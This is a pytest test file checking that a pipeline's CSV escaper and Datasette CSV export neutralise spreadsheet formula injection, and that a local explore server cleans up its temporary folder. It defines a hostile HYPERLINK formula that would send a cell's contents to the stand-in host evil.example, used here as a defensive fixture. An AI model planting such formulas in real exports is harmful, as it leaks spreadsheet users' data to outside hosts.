"""`make explore`: Datasette's CSV export is spreadsheet-safe like the release's CSVs, and no
temporary folder outlives the server."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pipeline.publish import explore
from pipeline.publish.csv_escape import CsvFormulaEscaper, safe_cell
from pipeline.publish.database import database_name, write_database
from tests.conftest import REPO
from tests.unit.publish.test_database import sample_tables

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rewritten(data: bytes, piece: int, header: bool = True) -> bytes:
    escaper = CsvFormulaEscaper(header=header)
    out = b"".join(escaper.feed(data[i : i + piece]) for i in range(0, len(data), piece))
    return out + escaper.finish()


def test_formula_cells_get_a_quote_numbers_and_the_header_do_not():
    assert [safe_cell(c) for c in ["=1+1", "-5", "+1.5", "-1+1", "@SUM(A1)", "\tx", "London", "1e3"]] == [
        "'=1+1",
        "-5",
        "+1.5",
        "'-1+1",
        "'@SUM(A1)",
        "'\tx",
        "London",
        "1e3",
    ]


@pytest.mark.parametrize("piece", [1, 2, 7, 1 << 16])
def test_the_stream_is_rewritten_record_by_record_whatever_the_pieces(piece):
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\r\n")
    rows = [["=title", "amount"], [HOSTILE, "-5"], ['line one\n=line "two"', "+3"], ["Sécurité – ça", "@x"]]
    writer.writerows(rows)
    out = rewritten(source.getvalue().encode("utf-8"), piece)
    got = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert got == [
        ["=title", "amount"],
        ["'" + HOSTILE, "-5"],
        ['line one\n=line "two"', "+3"],
        ["Sécurité – ça", "'@x"],
    ]
    assert rewritten(b"=a,b\r\n", piece, header=False) == b"'=a,b\r\n"


def datasette_csv(db: Path, path: str) -> tuple[int, str, str]:
    from datasette.app import Datasette

    async def fetch() -> tuple[int, str, str]:
        ds = Datasette([str(db)], plugins_dir=str(explore.PLUGINS_DIR))
        response = await ds.client.get(path)
        return response.status_code, response.headers.get("content-type", ""), response.text

    return asyncio.run(fetch())


def test_datasettes_csv_export_serves_formula_titles_escaped(tmp_path):
    tables = sample_tables()
    tables["documents"].loc[0, "title"] = HOSTILE
    db = write_database(tables, tmp_path / database_name())
    name = db.stem
    for path in (
        f"/{name}/documents.csv",
        f"/{name}/documents.csv?_stream=on&_dl=1",
        f"/{name}.csv?sql=select+title,+n_chars+from+documents",
    ):
        status, _, body = datasette_csv(db, path)
        assert status == 200, (path, body[:200])
        cells = [c for row in csv.reader(io.StringIO(body, newline="")) for c in row]
        assert "'" + HOSTILE in cells and HOSTILE not in cells, path
    status, _, body = datasette_csv(db, f"/{name}/documents.json?_shape=array")
    assert status == 200 and HOSTILE in [row["title"] for row in json.loads(body)], "JSON: left as it is"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_make_explore_leaves_no_temporary_folder_behind(tmp_path):
    release = tmp_path / "latest"
    release.mkdir()
    write_database(sample_tables(), release / database_name())
    temp = tmp_path / "tmp"
    temp.mkdir()
    port = free_port()
    env = {**os.environ, "TMPDIR": str(temp)}
    args = [sys.executable, "-m", "pipeline.publish.explore", "--release", str(release), "--port", str(port)]
    proc = subprocess.Popen(args, cwd=REPO, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.2)
        assert proc.poll() is None, "Datasette did not start"
        assert [p.name[:8] for p in temp.iterdir()] == ["explore-"], "the metadata lives there while it runs"
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    assert list(temp.iterdir()) == [], "and goes with it"
